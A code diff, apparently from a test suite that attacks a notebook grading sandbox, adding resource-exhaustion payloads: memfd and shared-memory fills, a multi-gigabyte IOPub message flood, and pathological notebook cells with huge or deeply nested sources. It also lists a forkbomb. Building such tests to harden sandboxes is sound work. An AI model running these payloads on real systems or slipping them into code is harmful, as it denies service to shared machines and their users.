@@ -1,5 +1,8 @@
 """Using up what others need: processes, threads, memory, disk, output, time."""
 
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell
+
 from attacks.attack import before, within
 
 SWALLOW = """
@@ -62,6 +65,39 @@ for _ in range(900):
     value = value["x"]
 publish_display_data({"application/json": deep, "text/plain": "x"})
 """
+FILES = """
+import os
+held = 0
+while held < 20_000_000_000:
+    file = os.memfd_create("x")
+    for _ in range(20):
+        held += os.write(file, b"x" * 10_000_000)
+"""
+SEGMENTS = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+for _ in range(200):
+    place = libc.shmat(libc.shmget(0, 100_000_000, 0o1600), None, 0)
+    if place != 2 ** 64 - 1:
+        ctypes.memset(place, 1, 100_000_000)
+"""
+FRAMES = """
+kernel = get_ipython().kernel
+message = kernel.session.msg("stream", {"name": "stdout", "text": "x"}, parent=kernel.get_parent())
+frames = [b"stream", *kernel.session.serialize(message), *[bytes(15_000_000)] * 1000]
+kernel.iopub_thread.schedule(lambda: kernel.iopub_thread.socket.send_multipart(frames, copy=False))
+"""
+
+
+def _source(source: str):
+    """Damage for the grader that reads it: a cell with a source on which a careless reader spends hours, or recurses."""
+
+    def damage(notebook: NotebookNode) -> None:
+        notebook.cells.append(new_code_cell(source))
+
+    return damage
+
 
 ATTACKS = [
     before("resources-forkbomb", BOMB),
@@ -78,5 +114,12 @@ ATTACKS = [
     before("resources-loop", SWALLOW),
     before("resources-sleep", "import time\nwhile True: time.sleep(1000)"),
     within("resources-result", "import numpy as np\nreturn np.zeros((20_000, 20_000))"),
+    before("resources-memoryfiles", FILES),
+    before("resources-segments", SEGMENTS),
+    before("resources-frames", FRAMES),
+    before("resources-newlines", "", damage=_source("\n" * 200_000 + "def (")),
+    before("resources-bigsource", "", damage=_source(f"x = [{'0, ' * 1_000_000}]")),
+    before("resources-deepsource", f"x = 1{'+1' * 1400}"),
+    before("resources-deepersource", "", damage=_source(f"x = {'(' * 100_000}")),
     before("resources-bignumber", "x = 10 ** 10 ** 10"),
 ]
